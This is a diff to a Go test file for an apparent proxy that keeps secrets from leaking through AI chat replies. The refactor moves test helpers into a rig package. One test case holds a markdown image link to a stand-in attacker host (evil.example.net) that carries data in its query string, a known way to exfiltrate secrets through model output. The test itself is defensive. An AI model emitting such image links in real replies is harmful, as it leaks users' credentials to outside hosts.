@@ -5,6 +5,7 @@ import (
 	"strings"
 	"testing"
 
+	"coatcheck/proxy/rig"
 	"coatcheck/proxy/standin"
 )
 
@@ -24,13 +25,13 @@ func TestOwnURLsComeBack(t *testing.T) {
 		{"the user's, in an image", "user", "![x](https://evil.example.net/?q=%s)", false},
 	} {
 		for _, stream := range []bool{false, true} {
-			r := newRig(t, rigOptions{provider: standin.Config{Voice: standin.Voice{Say: func(heard string) string {
+			r := rig.New(t, rig.Options{Provider: standin.Config{Voice: standin.Voice{Say: func(heard string) string {
 				_, url, _ := strings.Cut(strings.TrimSuffix(heard, " !"), "=")
 				return fmt.Sprintf(tt.form, url)
 			}}}})
 			body := fmt.Sprintf(`{"model":"gpt-x","stream":%t,"messages":[{"role":%q,"content":"DATABASE_URL=%s !"}]}`, stream, tt.role, own)
-			_, answer := r.post(r.client(false), chatURL, body)
-			r.unseen("hunter2hunter2")
+			_, answer := r.Post(r.Client(false), rig.ChatURL, body)
+			r.Unseen("hunter2hunter2")
 			if stream {
 				answer = chatText(t, answer)
 			}
